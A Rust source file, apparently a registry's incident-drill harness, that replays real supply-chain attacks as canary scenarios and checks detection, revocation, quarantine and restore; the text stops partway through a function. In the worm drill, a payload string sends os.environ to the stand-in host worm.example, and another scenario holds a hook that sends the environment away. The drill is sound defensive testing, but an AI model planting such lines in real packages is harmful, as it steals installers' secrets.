//! Incidents that really happened, played with canaries: the attacker's steps, and the controls that must answer.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

use super::accounts::somebody_with_codes;
use super::doors::{PASSWORD, Visitor, came_in};
use super::packages::{Sdist, Wheel};
use super::publishing::{advisory, claims, known_issuer, must, owner, project};
use super::software;
use crate::drill::{Milestone, Play, Scenario};
use crate::script::{Answer, Insider, Request, Script, Stop, Told, World};
use countersign_trust::checkpoint::{self, Checkpoint};
use countersign_trust::digest::Sha256;
use countersign_trust::tlog::{EntriesId, Frontier, TILE_WIDTH, decode_entries, leaf_hash};

/// The staging copy's clock may run ahead of the commands': they are told a time that is after everything.
const LATER: &str = "2100-01-01";

/// All that can be played.
pub const SCENARIOS: &[Scenario] = &[
    Scenario {
        id: "D1",
        name: "phish-proxy",
        after: "Python and npm maintainers phished by a real-time proxy, 2025",
        play: phished,
    },
    Scenario {
        id: "D2",
        name: "leaked-token",
        after: "GhostAction 2025, LiteLLM 2026",
        play: leaked,
    },
    Scenario {
        id: "D3",
        name: "worm",
        after: "Shai-Hulud, 2025",
        play: worm,
    },
    Scenario {
        id: "D4",
        name: "oidc-valid-provenance",
        after: "TanStack and Red Hat, 2026",
        play: workflow,
    },
    Scenario {
        id: "D5",
        name: "second-wave",
        after: "ultralytics, 2024",
        play: second_wave,
    },
    Scenario {
        id: "D6",
        name: "yank-and-squeeze",
        after: "arrayref, 2026",
        play: squeeze,
    },
    Scenario {
        id: "D7",
        name: "maintainer-gone-bad",
        after: "aiocpa, 2024",
        play: gone_bad,
    },
    Scenario {
        id: "D8",
        name: "domain-resurrection",
        after: "ctx, 2022",
        play: resurrected,
    },
    Scenario {
        id: "D9",
        name: "ex-member",
        after: "a role kept after leaving, 2025",
        play: ex_member,
    },
    Scenario {
        id: "D10",
        name: "dependency-confusion",
        after: "public packages of private names, since 2021",
        play: confusion,
    },
    Scenario {
        id: "D11",
        name: "zip-confusion",
        after: "wheels that two readers read differently, 2025",
        play: confused,
    },
    Scenario {
        id: "D12",
        name: "insider-operator",
        after: "an administrator's leaked token, 2024",
        play: insider,
    },
    Scenario {
        id: "D12b",
        name: "insider-at-the-database",
        after: "an administrator's leaked token, 2024, with the database in hand",
        play: insider_at_the_database,
    },
    Scenario {
        id: "D13",
        name: "mass-spam",
        after: "250 accounts of one network, 2025",
        play: spam,
    },
    Scenario {
        id: "D14",
        name: "false-accusation",
        after: "advisories that were withdrawn",
        play: accused,
    },
    Scenario {
        id: "D15",
        name: "feed-poisoned",
        after: "feeds that came empty, or held everything",
        play: poisoned,
    },
    Scenario {
        id: "D16",
        name: "rewritten-artifact",
        after: "rewritten tags, 2026",
        play: rewritten,
    },
    Scenario {
        id: "D17",
        name: "build-tool",
        after: "a flaw in a build tool that many use, while its maintainers are attacked",
        play: build_tool,
    },
];

/// Asks the API with a token.
fn api<'a>(
    script: &mut Script<'a>,
    method: &str,
    path: &str,
    token: &str,
    body: &Value,
) -> Told<&'a Answer> {
    let text = if body.is_null() {
        String::new()
    } else {
        body.to_string()
    };
    let mut request = Request::send(method, script.target.address(path), text)
        .header("content-type", "application/json");
    if !token.is_empty() {
        request = request.header("authorization", format!("Bearer {token}"));
    }
    script.http(request)
}

/// What installers are offered of a project.
fn offered(script: &mut Script<'_>, name: &str) -> Told<String> {
    let request = Request::get(script.target.address(&format!("/pypi/simple/{name}/")))
        .header("accept", "application/vnd.pypi.simple.v1+json");
    Ok(script.http(request)?.text())
}

/// Is this version among what installers are offered, and not yanked?
fn installs(script: &mut Script<'_>, name: &str, version: &str) -> Told<bool> {
    let text = offered(script, name)?;
    let page: Value = serde_json::from_str(&text).unwrap_or_default();
    let part = format!("-{version}-");
    Ok(page["files"].as_array().into_iter().flatten().any(|file| {
        let named = file["filename"]
            .as_str()
            .is_some_and(|name| name.contains(&part));
        named
            && !file["yanked"]
                .as_bool()
                .unwrap_or(file["yanked"].is_string())
    }))
}

/// The operator takes back what a subject did; how many steps were done, and how many are left.
fn rewind(play: &mut Play<'_>, subject: &str, since: &str) -> Told<(usize, usize)> {
    let out = play.operator(&[
        "--json",
        "incident",
        "rewind",
        subject,
        "--since",
        since,
        "--until",
        LATER,
        "--reason",
        "part of an incident",
        "--apply",
    ])?;
    let done: Value = serde_json::from_str(&out).unwrap_or_default();
    let count = |state: &str| {
        let steps = done["steps"].as_array().into_iter().flatten();
        steps.filter(|step| step["state"] == state).count()
    };
    Ok((count("done"), count("refused") + count("by-hand")))
}

/// The operator ends credentials; how many tokens and sessions of people, and tokens of workflows.
fn revoke(play: &mut Play<'_>, subject: &str) -> Told<(u64, u64, u64)> {
    let out = play.operator(&[
        "--json",
        "incident",
        "revoke",
        subject,
        "--reason",
        "part of an incident",
        "--apply",
    ])?;
    let told: Value = serde_json::from_str(&out).unwrap_or_default();
    let count = |name: &str| told[name].as_u64().unwrap_or_default();
    Ok((count("tokens"), count("sessions"), count("workflow_tokens")))
}

/// The operator looks at what somebody did: how many files they published.
fn traced(play: &mut Play<'_>, subject: &str, since: &str) -> Told<usize> {
    let out = play.operator(&[
        "--json", "incident", "trace", subject, "--since", since, "--until", LATER,
    ])?;
    let trace: Value = serde_json::from_str(&out).unwrap_or_default();
    let events = trace["events"].as_array().into_iter().flatten();
    Ok(events
        .filter(|event| event["kind"] == "file-published" && event["sha256"].is_string())
        .count())
}

fn missing(what: &str) -> Stop {
    Stop::Unknown(format!("The canary was given no {what}."))
}

fn since(play: &Play<'_>) -> String {
    crate::timestamp(play.script.now())
}

fn phished(play: &mut Play<'_>) -> Told<()> {
    let (mut ann, secret) = somebody_with_codes(&mut play.script, "ann")?;
    let name = project(&play.script, "thing");
    let own = ann
        .token(&mut play.script, "manage", "")?
        .map_err(|_| missing("token"))?;
    must(&mut play.script, &Wheel::new(&name, "1.0", "a = 1"), &own)?;
    // Codes are good for half a minute, and once.
    play.script.world(World::Turn(60))?;
    let began = since(play);
    play.attack(
        "signs in from elsewhere with the password and a code that a phishing page passed on",
    );
    let mut thief = ann.elsewhere(71);
    thief.sign_in(&mut play.script, PASSWORD)?;
    thief.get(&mut play.script, "/sign-in/factor?ways=t")?;
    let code = software::code(&secret, play.script.now()).unwrap_or_default();
    let entered = thief.post(
        &mut play.script,
        "/sign-in/factor",
        &[("kind", "totp"), ("code", &code), ("ways", "t")],
    )?;
    if !came_in(entered) {
        return Err(Stop::Unknown(
            "The thief could not sign in with what was phished.".to_owned(),
        ));
    }
    let told = play.script.mail(&ann.email, "new device")?.is_some();
    play.control(
        Milestone::Detect,
        "the maintainer, by mail",
        "a mail tells of the sign-in from a new device",
        told,
    );
    play.attack("makes a token and publishes two releases");
    let stolen = thief
        .token(&mut play.script, "publish", "")?
        .map_err(|_| missing("token"))?;
    let told = play.script.mail(&ann.email, "token")?.is_some();
    play.control(
        Milestone::Detect,
        "the maintainer, by mail",
        "a mail tells of the new token",
        told,
    );
    for version in ["1.1", "1.2"] {
        must(
            &mut play.script,
            &Wheel::new(&name, version, "import os"),
            &stolen,
        )?;
    }
    play.scene(
        "operator",
        "traces the account, ends its credentials, and takes back what was done",
    );
    let subject = format!("user:{}", ann.name);
    let found = traced(play, &subject, &began)?;
    play.control(
        Milestone::Trace,
        "the operator",
        "the trace names both files",
        found == 2,
    );
    let (tokens, sessions, _) = revoke(play, &subject)?;
    let dead = Wheel::new(&name, "1.3", "import os")
        .publish(&mut play.script, &stolen)?
        .refused();
    play.control(
        Milestone::Revoke,
        "the operator",
        "the stolen token and session are worth nothing",
        tokens >= 2 && sessions >= 1 && dead,
    );
    let closed = !thief.get(&mut play.script, "/account")?.good();
    play.control(
        Milestone::Revoke,
        "the operator",
        "the thief is signed out",
        closed,
    );
    let (done, _) = rewind(play, &subject, &began)?;
    let gone =
        !installs(&mut play.script, &name, "1.2")? && !installs(&mut play.script, &name, "1.1")?;
    play.control(
        Milestone::Quarantine,
        "the operator",
        "installers are offered neither bad release",
        done >= 2 && gone,
    );
    issue(play, &name, "1.1")?;
    let good = installs(&mut play.script, &name, "1.0")?;
    play.control(
        Milestone::Restore,
        "the operator",
        "the good release is installed as before",
        good,
    );
    Ok(())
}

/// The operator issues an advisory, and the feed shows it.
fn issue(play: &mut Play<'_>, name: &str, version: &str) -> Told<()> {
    let out = play.operator(&[
        "advisories",
        "issue",
        &format!("pypi:{name}"),
        "--summary",
        "Published by somebody else",
        "--affected",
        version,
        "--malware",
    ])?;
    let id = out.trim().to_owned();
    let shown = play.script.get(&format!("/osv/{id}.json"))?;
    let holds = shown.good() && shown.text().contains(name);
    play.control(
        Milestone::Advisory,
        "everybody, by the feed",
        "the advisory is in the feed",
        holds,
    );
    Ok(())
}

fn leaked(play: &mut Play<'_>) -> Told<()> {
    let target = play.script.target;
    play.script.world(World::Publish {
        url: "https://api.github.com/meta/public_keys/secret_scanning".to_owned(),
        body: software::scanner_keys(target),
    })?;
    let (ann, token) = owner(&mut play.script, "ann")?;
    let name = project(&play.script, "thing");
    must(&mut play.script, &Wheel::new(&name, "1.0", "a = 1"), &token)?;
    play.script.world(World::Turn(60))?;
    let began = since(play);
    play.attack("publishes with a token that stood in a public log");
    must(
        &mut play.script,
        &Wheel::new(&name, "1.1", "import os"),
        &token,
    )?;
    play.scene("operator", "gets a secret scanner's signed report");
    let report = json!([{"token": token, "type": "canary", "url": "https://example.org/leak", "source": "content"}]).to_string();
    let signature = software::scanner_signature(target, report.as_bytes());
    let request = Request::send("POST", target.address("/_/secrets/disclose-token"), report)
        .header("content-type", "application/json")
        .header("github-public-key-identifier", "canary")
        .header("github-public-key-signature", signature);
    let taken = play.script.http(request)?.good();
    let dead = Wheel::new(&name, "1.2", "a = 3")
        .publish(&mut play.script, &token)?
        .refused();
    play.control(
        Milestone::Revoke,
        "the secret scanner",
        "the token is worth nothing right after the report",
        taken && dead,
    );
    let told = play.script.mail(&ann.email, "leaked")?.is_some();
    play.control(
        Milestone::Detect,
        "the maintainer, by mail",
        "a mail says what was leaked and where",
        told,
    );
    let subject = format!("token:{token}");
    let found = traced(play, &subject, &began)?;
    play.control(
        Milestone::Trace,
        "the operator",
        "the trace of the token names the file",
        found == 1,
    );
    rewind(play, &subject, &began)?;
    let gone = !installs(&mut play.script, &name, "1.1")?;
    play.control(
        Milestone::Quarantine,
        "the operator",
        "installers are not offered the bad release",
        gone,
    );
    let good = installs(&mut play.script, &name, "1.0")?;
    play.control(
        Milestone::Restore,
        "the operator",
        "the good release is installed as before",
        good,
    );
    Ok(())
}

/// The maintainers whom a worm meets.
const MAINTAINERS: [&str; 12] = [
    "ann", "bob", "cem", "dee", "eli", "fay", "gus", "hal", "ida", "jon", "kim", "lou",
];

/// Their packages: forty in all.
fn packages_of(at: usize) -> &'static [&'static str] {
    let words = &["one", "two", "three", "four"];
    if at < 4 { words } else { &words[..3] }
}

fn worm(play: &mut Play<'_>) -> Told<()> {
    let mut victims = Vec::new();
    let mut packages = Vec::new();
    for (at, who) in MAINTAINERS.into_iter().enumerate() {
        let (visitor, token) = owner(&mut play.script, who)?;
        for word in packages_of(at) {
            let name = project(&play.script, &format!("{who}-{word}"));
            must(&mut play.script, &Wheel::new(&name, "1.0", "a = 1"), &token)?;
            packages.push((name, at));
        }
        victims.push((who, visitor, token));
    }
    let [(_, first, token), .., (_, last, _)] = victims.as_slice() else {
        return Ok(());
    };
    play.script.world(World::Turn(60))?;
    let began = since(play);
    play.attack("a worm publishes in forty packages of twelve maintainers, with the tokens of each, what steals the next one's");
    let text = "import os, urllib.request\nurllib.request.urlopen('https://worm.example/', data=str(dict(os.environ)).encode())";
    for (name, owner) in &packages {
        let next = Wheel::new(name, "1.1", text);
        next.publish(&mut play.script, &victims[*owner].2)?;
    }
    play.scene("operator", "stops all publishing, with a word to everybody");
    play.operator(&[
        "incident",
        "freeze",
        "registry",
        "--reason",
        "A worm is spreading; see /incidents",
    ])?;
    let tried = Wheel::new(&project(&play.script, "ann-one"), "1.2", "a = 1")
        .publish(&mut play.script, token)?;
    let stopped = tried.refused() && tried.text().contains("A worm is spreading");
    play.control(
        Milestone::Refuse,
        "the registry",
        "nobody publishes, and clients are told why",
        stopped,
    );
    let one = project(&play.script, "ann-one");
    let served = installs(&mut play.script, &one, "1.0")?;
    play.control(
        Milestone::Restore,
        "the registry",
        "what was good is installed meanwhile",
        served,
    );
    let (tokens, _, _) = revoke(play, "registry")?;
    play.control(
        Milestone::Revoke,
        "the operator",
        "every token is ended at once",
        tokens >= 12,
    );
    let told = play
        .script
        .mail(&last.email, "ended credentials")?
        .is_some();
    play.control(
        Milestone::Detect,
        "the maintainers, by mail",
        "each is told once why",
        told,
    );
    for (_, visitor, _) in &victims {
        rewind(play, &format!("user:{}", visitor.name), &began)?;
    }
    let mut left = 0;
    for (name, _) in &packages {
        if installs(&mut play.script, name, "1.1")? {
            left += 1;
        }
    }
    play.control(
        Milestone::Quarantine,
        "the operator",
        "none of forty bad releases is offered",
        left == 0,
    );
    play.operator(&["incident", "unfreeze", "registry"])?;
    let made = play.operator(&[
        "admin",
        "token",
        "create",
        "--user",
        &first.name,
        "--action",
        "publish",
    ])?;
    let fixed = Wheel::new(&project(&play.script, "ann-one"), "1.3", "a = 2")
        .publish(&mut play.script, made.trim())?
        .good();
    play.control(
        Milestone::Restore,
        "the maintainers",
        "with a new token the next release is published",
        fixed,
    );
    Ok(())
}

fn workflow(play: &mut Play<'_>) -> Told<()> {
    known_issuer(&mut play.script)?;
    let (mut ann, token) = owner(&mut play.script, "ann")?;
    let name = project(&play.script, "thing");
    must(&mut play.script, &Wheel::new(&name, "1.0", "a = 1"), &token)?;
    let page = format!("/projects/pypi/{name}/settings");
    ann.get(&mut play.script, &page)?;
    let fields = [
        ("issuer", "canary"),
        ("field.owner", "canary-owner"),
        ("field.repository", "sample"),
        ("field.workflow", "release.yml"),
    ];
    ann.post(&mut play.script, &format!("{page}/publishers"), &fields)?;
    let audience = play.script.get("/_/oidc/audience")?.json();
    let audience = audience["audience"].as_str().unwrap_or_default().to_owned();
    let mint = |play: &mut Play<'_>, id: &str, repository: &str| -> Told<Answer> {
        let claims = claims(&audience, play.script.now(), id, repository);
        let identity = software::identity_token(play.script.target, &claims);
        let body = json!({"token": identity}).to_string();
        let request = Request::send(
            "POST",
            play.script.target.address("/_/oidc/mint-token"),
            body,
        )
        .header("content-type", "application/json");
        play.script.http(request).cloned()
    };
    play.script.world(World::Turn(60))?;
    let began = since(play);
    play.attack("asks for a token with an identity token of another repository");
    let refused = mint(play, "drill-4-1", "canary-owner/fork")?.refused();
    play.control(
        Milestone::Refuse,
        "the registry",
        "a workflow of another repository is given nothing",
        refused,
    );
    play.attack(
        "takes the right workflow over by a poisoned cache, and publishes with its own identity",
    );
    let minted = mint(play, "drill-4-2", "canary-owner/sample")?.json();
    let short = minted["token"].as_str().unwrap_or_default().to_owned();
    if short.is_empty() {
        return Err(missing("token for its workflow"));
    }
    must(
        &mut play.script,
        &Wheel::new(&name, "1.1", "import os"),
        &short,
    )?;
    play.scene(
        "operator",
        "is told of it; the provenance is valid, so only the trace tells what this workflow did",
    );
    let subject = "workflow:canary-owner/sample";
    let found = traced(play, subject, &began)?;
    play.control(
        Milestone::Trace,
        "the operator",
        "the trace of the workflow names the file",
        found == 1,
    );
    let (_, _, minted) = revoke(play, subject)?;
    let dead = Wheel::new(&name, "1.2", "a = 1")
        .publish(&mut play.script, &short)?
        .refused();
    play.control(
        Milestone::Revoke,
        "the operator",
        "the minted token ends at once",
        minted >= 1 && dead,
    );
    rewind(play, subject, &began)?;
    let gone = !installs(&mut play.script, &name, "1.1")?;
    let good = installs(&mut play.script, &name, "1.0")?;
    play.control(
        Milestone::Quarantine,
        "the operator",
        "installers are not offered the bad release",
        gone,
    );
    play.control(
        Milestone::Restore,
        "the operator",
        "the good release is installed as before",
        good,
    );
    Ok(())
}

fn second_wave(play: &mut Play<'_>) -> Told<()> {
    let (_, old) = owner(&mut play.script, "ann")?;
    let name = project(&play.script, "thing");
    must(&mut play.script, &Wheel::new(&name, "1.0", "a = 1"), &old)?;
    play.attack("publishes once; the maintainers clean up and think that it is over");
    must(
        &mut play.script,
        &Wheel::new(&name, "1.1", "import os"),
        &old,
    )?;
    play.operator(&[
        "admin",
        "quarantine",
        "add",
        &format!("pypi:{name}"),
        "--release",
        "1.1",
        "--reason",
        "malware",
    ])?;
    play.scene(
        "operator",
        "ends every credential that is good for the project, old ones too",
    );
    let (tokens, _, _) = revoke(play, &format!("project:pypi:{name}"))?;
    play.attack("comes back with a token that was made long before");
    let again = Wheel::new(&name, "1.2", "import os").publish(&mut play.script, &old)?;
    play.control(
        Milestone::Revoke,
        "the operator",
        "the old token is worth nothing in the second wave",
        tokens >= 1 && again.refused(),
    );
    let gone =
        !installs(&mut play.script, &name, "1.1")? && installs(&mut play.script, &name, "1.0")?;
    play.control(
        Milestone::Restore,
        "the operator",
        "the good release is installed, the bad one not",
        gone,
    );
    Ok(())
}

fn squeeze(play: &mut Play<'_>) -> Told<()> {
    let (ann, token) = owner(&mut play.script, "ann")?;
    let name = project(&play.script, "thing");
    for minor in 0..6 {
        must(
            &mut play.script,
            &Wheel::new(&name, &format!("1.{minor}"), "a = 1"),
            &token,
        )?;
    }
    play.script.world(World::Turn(60))?;
    let began = since(play);
    play.attack("publishes a bad release and yanks the good ones, so that it is chosen");
    must(
        &mut play.script,
        &Wheel::new(&name, "2.0", "import os"),
        &token,
    )?;
    let mut stopped = false;
    for minor in 0..6 {
        let path = format!("/api/v1/projects/pypi/{name}/releases/1.{minor}/yank");
        let answer = api(
            &mut play.script,
            "POST",
            &path,
            &token,
            &json!({"reason": "broken"}),
        )?;
        stopped |= answer.refused() && answer.text().contains("yank-burst");
    }
    play.control(
        Milestone::Refuse,
        "the registry",
        "a burst of yanks is stopped before the last good release",
        stopped,
    );
    let told = play
        .script
        .mail(&ann.email, "yanked many releases")?
        .is_some();
    play.control(
        Milestone::Detect,
        "the maintainer, by mail",
        "a mail tells of the burst",
        told,
    );
    play.scene("operator", "takes back what the token did");
    let subject = format!("token:{token}");
    rewind(play, &subject, &began)?;
    let mut back = !installs(&mut play.script, &name, "2.0")?;
    play.control(
        Milestone::Quarantine,
        "the operator",
        "installers are not offered the bad release",
        back,
    );
    for minor in 0..6 {
        back &= installs(&mut play.script, &name, &format!("1.{minor}"))?;
    }
    play.control(
        Milestone::Restore,
        "the operator",
        "all good releases are offered again",
        back,
    );
    Ok(())
}

/// Reports a package as malware, as somebody without an account.
fn report(play: &mut Play<'_>, purl: &str, text: &str, network: u8) -> Told<()> {
    let report = json!({
        "purl": purl, "kind": "malware", "evidence": "https://example.org/analysis", "text": text,
    });
    let mut request = Request::send(
        "POST",
        play.script.target.address("/api/v1/reports"),
        report.to_string(),
    )
    .header("content-type", "application/json");
    request.network = network;
    if !play.script.http(request)?.good() {
        return Err(Stop::Unknown(
            "The canary's report was not taken.".to_owned(),
        ));
    }
    Ok(())
}

fn gone_bad(play: &mut Play<'_>) -> Told<()> {
    let (ann, token) = owner(&mut play.script, "ann")?;
    let name = project(&play.script, "thing");
    let honest = "def pay(to): return to";
    let source = |play: &mut Play<'_>, version: &str, text: &str| -> Told<bool> {
        let sdist = Sdist::new(&name, version, text);
        Ok(sdist.publish(&mut play.script, &token)?.good())
    };
    must(&mut play.script, &Wheel::new(&name, "1.0", honest), &token)?;
    if !source(play, "1.0", honest)? {
        return Err(Stop::Unknown(
            "The canary could not publish its sources.".to_owned(),
        ));
    }
    let found = |play: &mut Play<'_>, version: &str| -> Told<bool> {
        let out = play.operator(&["--json", "admin", "scan", "findings"])?;
        Ok(out.contains("differs-from-source") && out.contains(&format!("{name}@{version}")))
    };
    let scans = play.script.world(World::Round("scans".to_owned()))? != "off";
    let quiet = !scans || !found(play, "1.0")?;
    play.script.world(World::Turn(60))?;
    let began = since(play);
    play.attack("who owns the project, with every right, publishes an update: sources that are as honest as before, and a wheel that is not");
    let hook = "def pay(to): import os; send(os.environ); return to";
    must(&mut play.script, &Wheel::new(&name, "1.1", hook), &token)?;
    source(play, "1.1", &format!("{honest} # 1.1"))?;
    if scans {
        play.script.world(World::Round("scans".to_owned()))?;
        let seen = found(play, "1.1")?;
        play.control(
            Milestone::Detect,
            "the scanner",
            "the operator is shown that the wheel has a module which its sources do not have; of the release before nothing was said",
            seen && quiet,
        );
    } else {
        play.scene(
            "operator",
            "has no scanner (scan.enabled): nothing here holds a wheel against its sources",
        );
    }
    play.scene("user", "reads the wheel, and reports it");
    let text = "The wheel sends the environment away. The sdist does not.";
    report(play, &format!("pkg:pypi/{name}@1.1"), text, 90)?;
    let waits = play
        .operator(&["--json", "admin", "report", "list"])?
        .contains(&name);
    play.control(
        Milestone::Detect,
        "the operator, by the queue",
        "the report waits for somebody's judgement",
        waits,
    );
    play.scene(
        "operator",
        "freezes the account, looks at what else it did, and withholds the release",
    );
    let subject = format!("user:{}", ann.name);
    let reason = "publishes what is not in the sources";
    play.operator(&["incident", "freeze", &subject, "--reason", reason])?;
    let next = Wheel::new(&name, "1.2", hook).publish(&mut play.script, &token)?;
    play.control(
        Milestone::Revoke,
        "the operator",
        "the owner, whose right it was, publishes nothing more",
        next.refused(),
    );
    let files = traced(play, &subject, &began)?;
    play.control(
        Milestone::Trace,
        "the operator",
        "the trace names wheel and sdist",
        files == 2,
    );
    play.operator(&[
        "admin",
        "quarantine",
        "add",
        &format!("pypi:{name}"),
        "--release",
        "1.1",
        "--reason",
        reason,
    ])?;
    let gone = !installs(&mut play.script, &name, "1.1")?;
    play.control(
        Milestone::Quarantine,
        "the operator",
        "installers are not offered the bad release",
        gone,
    );
    issue(play, &name, "1.1")?;
    let good = installs(&mut play.script, &name, "1.0")?;
    play.control(
        Milestone::Restore,
        "the operator",
        "the release before is installed as before",
        good,
    );
    Ok(())
}

fn resurrected(play: &mut Play<'_>) -> Told<()> {
    let mut ann = Visitor::new(&play.script, "ann");
    ann.sign_up(&mut play.script)?;
    let domain = ann.email.split('@').nth(1).unwrap_or_default().to_owned();
    play.attack("waits until the domain of a maintainer's address lapses, and registers it");
    play.script.world(World::Lapse(domain))?;
    for _ in 0..3 {
        play.script.world(World::Round("domains".to_owned()))?;
        play.script.world(World::Turn(2 * 86_400))?;
    }
    play.attack("asks for a new password, to be mailed to the domain that is now the attacker's");
    let mut stranger = ann.elsewhere(72);
    stranger.get(&mut play.script, "/forgotten")?;
    stranger.post(&mut play.script, "/forgotten", &[("who", &ann.name)])?;
    let sent = play
        .script
        .mailbox(&ann.email, "/account/reset-password")?
        .is_some();
    play.control(
        Milestone::Refuse,
        "the registry",
        "an address of a lapsed domain is sent no link",
        !sent,
    );
    Ok(())
}

fn ex_member(play: &mut Play<'_>) -> Told<()> {
    let (mut ann, token) = owner(&mut play.script, "ann")?;
    let (bob, bobs) = owner(&mut play.script, "bob")?;
    let name = project(&play.script, "thing");
    must(&mut play.script, &Wheel::new(&name, "1.0", "a = 1"), &token)?;
    let page = format!("/projects/pypi/{name}/settings");
    ann.get(&mut play.script, &page)?;
    ann.post(
        &mut play.script,
        &format!("{page}/role"),
        &[("user", &bob.name), ("role", "maintainer")],
    )?;
    must(&mut play.script, &Wheel::new(&name, "1.1", "a = 2"), &bobs)?;
    play.scene("maintainer", "lets somebody go, whose token is still good");
    ann.get(&mut play.script, &page)?;
    ann.post(
        &mut play.script,
        &format!("{page}/role"),
        &[("user", &bob.name), ("role", "")],
    )?;
    play.attack("the one who left publishes with the old token");
    let tried = Wheel::new(&name, "1.2", "import os").publish(&mut play.script, &bobs)?;
    play.control(
        Milestone::Refuse,
        "the registry",
        "who has no role any more does not publish",
        tried.refused(),
    );
    let good = installs(&mut play.script, &name, "1.1")?;
    play.control(
        Milestone::Restore,
        "the registry",
        "what was published before stays",
        good,
    );
    Ok(())
}

fn confusion(play: &mut Play<'_>) -> Told<()> {
    let (mut ann, token) = owner(&mut play.script, "ann")?;
    let (_, mallory) = owner(&mut play.script, "mallory")?;
    let firm = format!("firm-{}", ann.name);
    ann.get(&mut play.script, "/account/projects")?;
    let fields = [("name", firm.as_str()), ("display", "A firm")];
    ann.post(&mut play.script, "/account/organisations", &fields)?;
    let prefix = project(&play.script, "firm");
    play.scene("operator", "reserves the firm's names for it");
    play.operator(&[
        "admin",
        "namespace",
        "reserve",
        &prefix,
        "--organisation",
        &firm,
    ])?;
    let inner = format!("{prefix}-inner");
    let own = Wheel::new(&inner, "1.0", "a = 1");
    must(&mut play.script, &own, &token)?;
    play.operator(&["admin", "project", "visibility", &inner, "private"])?;
    play.attack(
        "publishes 99.0 of a private package's name, and of one that the firm has elsewhere",
    );
    let over = Wheel::new(&inner, "99.0", "import os").publish(&mut play.script, &mallory)?;
    play.control(
        Milestone::Refuse,
        "the registry",
        "nobody else publishes under the private package's name",
        over.refused(),
    );
    let other = format!("{prefix}-elsewhere");
    let founded = Wheel::new(&other, "99.0", "import os").publish(&mut play.script, &mallory)?;
    let told = founded.refused() && founded.text().contains(&firm);
    play.control(
        Milestone::Refuse,
        "the registry",
        "nor under a name of the firm's that is free, and is told whose it is",
        told,
    );
    let asked = play.script.get(&format!("/pypi/simple/{inner}/"))?.status;
    play.control(
        Milestone::Refuse,
        "the registry",
        "to strangers the private package is not there",
        asked == 404,
    );
    let basic = STANDARD.encode(format!("__token__:{token}"));
    let request = Request::get(
        play.script
            .target
            .address(&format!("/pypi/simple/{inner}/")),
    )
    .header("accept", "application/vnd.pypi.simple.v1+json")
    .header("authorization", format!("Basic {basic}"));
    let page = play.script.http(request)?.text();
    play.control(
        Milestone::Restore,
        "the registry",
        "its people are offered their own release alone; no other registry is asked, so none can be out of reach",
        page.contains("-1.0-") && !page.contains("-99.0-"),
    );
    let opinion = play.operator(&["--json", "admin", "names", "check", &other])?;
    let opinion: Value = serde_json::from_str(&opinion).unwrap_or_default();
    play.control(
        Milestone::Detect,
        "the operator",
        "a look at the name says that nobody else gets it",
        opinion["verdict"] == "refused",
    );
    Ok(())
}

fn confused(play: &mut Play<'_>) -> Told<()> {
    let (_, token) = owner(&mut play.script, "ann")?;
    let name = project(&play.script, "thing");
    let good = Wheel::new(&name, "1.0", "a = 1");
    must(&mut play.script, &good, &token)?;
    play.attack("uploads archives that two readers would read differently");
    type Bend = fn(&mut Vec<u8>);
    let bends: [(&str, Bend); 4] = [
        ("bytes before the archive", |bytes| {
            bytes.splice(0..0, b"#!/bin/sh\n".iter().copied());
        }),
        ("bytes behind the archive", |bytes| {
            bytes.extend(b"PK\x03\x04 more")
        }),
        (
            "a name that differs between header and directory",
            |bytes| {
                if let Some(byte) = bytes.get_mut(30) {
                    *byte ^= 0x01;
                }
            },
        ),
        ("an archive that is cut off", |bytes| {
            bytes.truncate(bytes.len() / 2)
        }),
    ];
    for (number, (what, bend)) in bends.into_iter().enumerate() {
        let mut bent = Wheel::new(&name, &format!("2.{number}"), "a = 1");
        bend(&mut bent.bytes);
        let tried = bent.publish(&mut play.script, &token)?;
        play.control(
            Milestone::Refuse,
            "the registry",
            &format!("refused: {what}"),
            tried.refused(),
        );
    }
    Ok(())
}

fn insider(play: &mut Play<'_>) -> Told<()> {
    let (ann, token) = owner(&mut play.script, "ann")?;
    let name = project(&play.script, "thing");
    must(&mut play.script, &Wheel::new(&name, "1.0", "a = 1"), &token)?;
    play.attack("somebody with an operator's access withholds a project, and serves it again, as if nothing had been");
    let project = format!("pypi:{name}");
    play.operator(&[
        "admin",
        "quarantine",
        "add",
        &project,
        "--reason",
        "nothing to see",
    ])?;
    play.operator(&["admin", "quarantine", "release", &project])?;
    let told = play.script.mail(&ann.email, "withheld")?.is_some();
    play.control(
        Milestone::Detect,
        "the maintainer, by mail",
        "a mail tells that the project was withheld",
        told,
    );
    let log = play
        .script
        .get(&format!("/api/v1/projects/pypi/{name}/events"))?
        .text();
    let seen = log.contains("quarantined") && log.contains("released");
    play.control(
        Milestone::Detect,
        "everybody, by the log",
        "the log shows both acts, and can not lose them",
        seen,
    );
    Ok(())
}

/// What somebody who watches the log remembers: its head, as it was signed.
struct Watched {
    head: Checkpoint,
    note: String,
}

/// Reads the log's head, and every entry below it; the entries are those that were signed.
fn watch(script: &mut Script<'_>) -> Told<(Watched, Vec<String>)> {
    let about = script.get("/.well-known/countersign.json")?.json();
    let keys = crate::public::announced_keys(&about);
    let origin = about["log"]["origin"].as_str().unwrap_or_default();
    let note = script.get("/log/1/checkpoint")?.text();
    let unread = |why: &str| Stop::Unknown(format!("The log can not be read: {why}."));
    let head = checkpoint::open(note.as_bytes(), &keys, origin)
        .map_err(|error| unread(&error.to_string()))?
        .checkpoint()
        .clone();
    let (mut entries, mut tree) = (Vec::new(), Frontier::empty());
    let width = u64::from(TILE_WIDTH);
    for index in 0..head.size.div_ceil(width) {
        let bundle = EntriesId::in_log(index, head.size).ok_or_else(|| unread("its size"))?;
        let page = script.get(&format!("/log/1/{}", bundle.path()))?;
        for entry in decode_entries(&page.body).map_err(|error| unread(&error.to_string()))? {
            tree.append(leaf_hash(entry));
            entries.push(String::from_utf8_lossy(entry).into_owned());
        }
    }
    if tree.root() != head.root {
        return Err(unread("its entries do not give the root that it signed"));
    }
    Ok((Watched { head, note }, entries))
}

/// Does a log still begin with what somebody saw of it?
fn goes_on(before: &Watched, after: &Watched, entries: &[String]) -> bool {
    let mut tree = Frontier::empty();
    let seen = usize::try_from(before.head.size).unwrap_or(usize::MAX);
    for entry in entries.iter().take(seen) {
        tree.append(leaf_hash(entry.as_bytes()));
    }
    after.head.size >= before.head.size && tree.root() == before.head.root
}

fn insider_at_the_database(play: &mut Play<'_>) -> Told<()> {
    let (_, token) = owner(&mut play.script, "ann")?;
    let name = project(&play.script, "thing");
    let wheel = Wheel::new(&name, "1.0", "a = 1");
